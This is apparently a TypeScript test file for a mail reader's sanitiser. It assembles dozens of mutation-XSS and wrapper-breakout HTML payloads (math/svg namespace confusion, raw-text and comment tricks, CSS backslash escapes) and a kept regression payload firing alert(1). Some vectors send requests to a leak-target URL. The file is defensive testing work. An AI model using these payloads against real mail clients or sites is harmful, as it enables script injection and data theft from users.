/**
 * Vectors against the parse → sanitise → serialise → parse-again chain: mutation XSS through
 * namespace confusion, raw-text elements, comments and CDATA, and markup that tries to break
 * out of whatever the reader wraps the mail in (the frame's srcdoc, a measuring copy, a quote).
 * The reader serialises DOMPurify's result at least once, so every one of these is live.
 */
import { canary, HostileVector, LeakTarget, leakUrls, vector } from './kit';

const MXSS = 'inspired by published mXSS research (namespace confusion; DOMPurify 2.0.x bypasses, 2019–2020)';
const DOMPURIFY = 'inspired by cure53/DOMPurify test/fixtures/expect.mjs';
const H5SC = 'inspired by cure53/H5SC (HTML5 Security Cheatsheet) items';
const OWN = 'own: html-prep.ts unescapes CSS backslashes, and the reader re-parses the serialised style text';

/** `I` = an image whose onerror is the canary. */
const MXSS_TEMPLATES: [string, string, string][] = [
  ['math-mtext-table-mglyph-style', MXSS, '<math><mtext><table><mglyph><style><img src=x onerror="J">'],
  ['math-mtext-table-mglyph-style-comment', MXSS, '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=J&gt;">'],
  ['math-mtext-table-mglyph-math-href', MXSS, '<math><mtext><table><mglyph><style><math href="javascript:J">CLICK</math>'],
  ['form-math-mtext-mglyph-style', MXSS, '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="J">'],
  ['form-math-mglyph-svg-mtext-style', MXSS, '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror="J" src=x>">'],
  ['math-mtext-table-mglyph-svg-style', MXSS, '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror="J" src=x>">'],
  ['math-mtext-h1-a-h6-mglyph', MXSS, '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror="J">"></style></h1>'],
  ['math-mtext-option-fake', MXSS, '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror="J">">'],
  ['svg-p-style-title', DOMPURIFY, '<svg></p><style><a id="</style><img src=x onerror="J">">'],
  ['svg-p-textarea-title-style', DOMPURIFY, '<svg></p><textarea><title><style></textarea><img src=x onerror="J"></style></title></svg>'],
  ['svg-p-title-a-id', DOMPURIFY, '<svg></p><title><a id="</title><img src=x onerror="J">"></textarea></svg>'],
  ['math-p-textarea-mi-style', DOMPURIFY, '<math></p><textarea><mi><style></textarea><img src=x onerror="J"></mi></math>'],
  ['svg-p-title-template-style', DOMPURIFY, '<svg></p><title><template><style></title><img src=x onerror="J">'],
  ['math-br-textarea-mtext-template', DOMPURIFY, '<math></br><textarea><mtext><template><style></textarea><img src=x onerror="J">'],
  ['svg-p-math-title-style', DOMPURIFY, '<svg></p><math><title><style><img src=x onerror="J"></style></title>'],
  ['svg-p-style-g-title', DOMPURIFY, '<svg><p><style><g title="</style><img src=x onerror="J">">'],
  ['svg-foreignobject-style-title', DOMPURIFY, '<svg><foreignobject><p><style><p title="</style><img src=x onerror="J"><!--"></style>'],
  ['math-annotation-xml-style', DOMPURIFY, '<math><annotation-xml encoding="text/html"><p><style><p title="</style><img src=x onerror="J"><!--"></style>'],
  ['math-annotation-xml-svg', MXSS, '<math><annotation-xml encoding="text/html"><svg><style><img src=x onerror="J"></style></svg></annotation-xml></math>'],
  ['svg-desc-noscript', DOMPURIFY, 'a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src=x onerror=J>">'],
  ['xmp-svg-style', DOMPURIFY, '<xmp><svg><b><style><b title=\'</style><img src=x onerror="J">\'>'],
  ['noembed-svg-style', DOMPURIFY, '<noembed><svg><b><style><b title=\'</style><img src=x onerror="J">\'>'],
  ['noframes-style', MXSS, '<noframes><style></noframes><img src=x onerror="J"></style>'],
  ['noscript-attr', MXSS, '<noscript><p title="</noscript><img src=x onerror=J>">'],
  ['noscript-comment', DOMPURIFY, '<b><noscript><!-- </noscript><img src=x onerror=J --></noscript>'],
  ['noscript-style', MXSS, '<noscript><style></noscript><img src=x onerror="J"></style>'],
  ['textarea-comment', DOMPURIFY, '<textarea>x</textarea><!--</textarea><img src=x onerror=J>-->'],
  ['title-breakout', MXSS, '<title><img src=x onerror="J"></title><img src=x onerror="J">'],
  ['template-nested', DOMPURIFY, '<body><template><s><template><s><img src=x onerror=J>x</s></template></s></template>'],
  ['select-template', DOMPURIFY, '<select><template><img src=x onerror="J"></template></select>'],
  ['option-style', DOMPURIFY, '<option><style></option></select><b><img src=x onerror=J></style></option>'],
  ['listing-entities', DOMPURIFY, '<listing>&lt;img onerror="J" src=x&gt;<t t></listing>'],
  ['plaintext-rest', MXSS, '<p>before</p><plaintext><img src=x onerror="J">'],
  ['style-style-jquery', DOMPURIFY, '<b><style><style/><img src=x onerror=J>'],
  ['iframe-text-breakout', MXSS, '<iframe><img src=x onerror="J"></iframe><iframe></iframe><img src=x onerror="J">'],
  ['comment-bang-close', H5SC, '<!-- `<img/src=x onerror=J//--!><img src=x onerror="J">'],
  ['comment-dash-dash-gt', H5SC, '<!--<img src="--><img src=x onerror=J//">'],
  ['comment-conditional', H5SC, '<!--[if]><script>J</script --><!--[if<img src=x onerror=J//]> -->'],
  ['cdata-svg', H5SC, '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=J//"></svg>'],
  ['cdata-html', H5SC, '<![><img src="]><img src=x onerror=J//">'],
  ['processing-instruction', H5SC, '<? foo="><script>J</script>"><img src=x onerror="J">'],
  ['bogus-comment-attr', H5SC, '<! foo="><img src=x onerror=J>">'],
  ['end-tag-attr', H5SC, '</ foo="><img src=x onerror=J>">'],
  ['backtick-attr', H5SC, '<img src="x` `<script>J</script>"` `>'],
  ['svg-style-img-text', H5SC, '<svg><style>&lt;img/src=x onerror=J// </b>'],
  ['svg-script-entity', H5SC, '<svg><script>void&DiacriticalGrave;x&DiacriticalGrave;;J</script></svg>'],
  ['style-attr-serialisation', MXSS, '<img alt="</style><img src=x onerror=J>"><style>img[alt="</style><img src=x onerror=J>"]{color:red}</style>'],
  ['svg-style-close-in-attr', MXSS, '<svg><style><a id="</style><img src=x onerror=J>"></a></style></svg>'],
  ['math-style-comment-close', MXSS, '<math><style><!--</style><img src=x onerror=J>--></style></math>'],
  ['svg-foreignobject-script', MXSS, '<svg><foreignObject><script>J</script><img src=x onerror="J"></foreignObject></svg>'],
  ['math-mi-mglyph-svg', MXSS, '<math><mi><mglyph><svg><style><img src=x onerror="J"></style></svg></mglyph></mi></math>'],
  ['table-form-nesting', MXSS, '<table><form><tr><td><form><img src=x onerror="J"></td></tr></form></table>'],
  ['a-in-a-nesting', MXSS, '<a href="#"><svg><a><style></a><img src=x onerror="J"></style></a></svg></a>'],
  ['head-in-body', MXSS, '<html><body><p>b</p><head><style></head><img src=x onerror="J"></style></html>'],
];

function mxssVectors(): HostileVector[] {
  return MXSS_TEMPLATES.map(([name, source, template]) => {
    const id = `mxss-${name}`;
    // Templates put J in double-quoted, single-quoted and unquoted places: the canary uses
    // backticks, which break none of them.
    return vector('mxss', source, id, template.replace(/J/g, canary(id, '`')));
  });
}

/**
 * Attacks on the reader's own wrapping: a mail that closes the frame's document, the style it
 * is given, or (in the measuring copy) the shadow root and its host.
 */
function breakoutVectors(target: LeakTarget): HostileVector[] {
  const v = (name: string, source: string, html: (js: string, leak: string) => string) => {
    const id = `breakout-${name}`;
    return vector('breakout', source, id, html(canary(id, '`'), leakUrls(target, id).plain));
  };
  return [
    v('close-srcdoc', MXSS, (js) => `"></iframe><img src=x onerror="${js}">`),
    v('close-srcdoc-single', MXSS, (js) => `'></iframe><img src=x onerror="${js}">`),
    v('close-html', MXSS, (js) => `</body></html><img src=x onerror="${js}"><script>${js}</script>`),
    v('close-wrapper-div', MXSS, (js) => `</div></div></div><img src=x onerror="${js}">`),
    v('close-style-in-text', OWN, (js) => `<style>p{color:red}&lt;/style&gt;&lt;img src=x onerror=${js}&gt;</style>`),
    v('style-escaped-close', OWN, (js) => `<style>p{font-family:"\\3c/style\\3e\\3cimg src=x onerror=${js}\\3e"}</style>`),
    v('style-backslash-close', OWN, (js) => `<style>p{font-family:'<\\/style><\\img src=x onerror=${js}//'}</style>`),
    v('style-url-backslash-close', OWN, (js) => `<style>p{background:url(data:image/png;<\\/style><\\img src=x onerror=${js}//)}</style>`),
    v('style-url-quoted-close', OWN, (js) => `<style>p{background:url("data:image/png;<\\/style><\\img src=x onerror=${js}//")}</style>`),
    v('style-image-set-close', OWN, (js) => `<style>p{background:image-set("data:image/png;<\\/style><\\img src=x onerror=${js}//" 1x)}</style>`),
    v('style-comment-close', OWN, (js) => `<style>/*<\\/style><\\img src=x onerror=${js}//*/p{color:red}</style>`),
    v('style-attr-close', OWN, (js) => `<p style="background:url(data:image/png;<\\/style><\\img src=x onerror=${js}//)">p</p>`),
    v('style-url-leak-close', OWN, (_js, leak) => `<style>p{background:url(data:image/png;<\\/style><\\img src=${leak}>)}</style><p>p</p>`),
    v('host-selector', OWN, (js) => `<style>:host{all:initial}:host *{color:red}</style><img src=x onerror="${js}">`),
    v('slot-content', OWN, (js) => `<slot name=x><img src=x onerror="${js}"></slot><template shadowrootmode=open><img src=x onerror="${js}"></template>`),
    v('declarative-shadow', OWN, (js) => `<div><template shadowrootmode="open"><style>@import '/x'</style><img src=x onerror="${js}"></template></div>`),
  ];
}

/**
 * The payload that ran script in the app window: a style rule whose `url(…)` holds
 * `<\/style>`; the reader unescaped the backslash, kept the data: URL as an image, and the
 * serialised style closed early when the measuring copy was parsed in the app document.
 * Kept byte for byte (alert(1)), plus the same with the canary.
 */
export const REGRESSION_STYLE_URL_ID = 'regression-style-url-unescape';
export const REGRESSION_STYLE_URL_HTML = '<style>a{background:url(data:image/png;<\\/style><\\img src=x onerror=alert(1)//)}</style>';

function regressionVectors(target: LeakTarget): HostileVector[] {
  const canaryId = 'regression-style-url-unescape-canary';
  const u72 = 'regression-css-escape-u72-attr';
  const u72Rule = 'regression-css-escape-u72-rule';
  return [
    vector('regression', OWN, REGRESSION_STYLE_URL_ID, REGRESSION_STYLE_URL_HTML),
    vector('regression', OWN, canaryId, `<style>a{background:url(data:image/png;<\\/style><\\img src=x onerror=${canary(canaryId, '`')}//)}</style>`),
    vector('regression', OWN, u72, `<p style="background:u\\72 l(${leakUrls(target, u72).plain})">p</p>`),
    vector('regression', OWN, u72Rule, `<style>p{background:u\\72 l(${leakUrls(target, u72Rule).plain})}</style><p>p</p>`),
  ];
}

export function parserVectors(target: LeakTarget): HostileVector[] {
  return [...regressionVectors(target), ...mxssVectors(), ...breakoutVectors(target)];
}
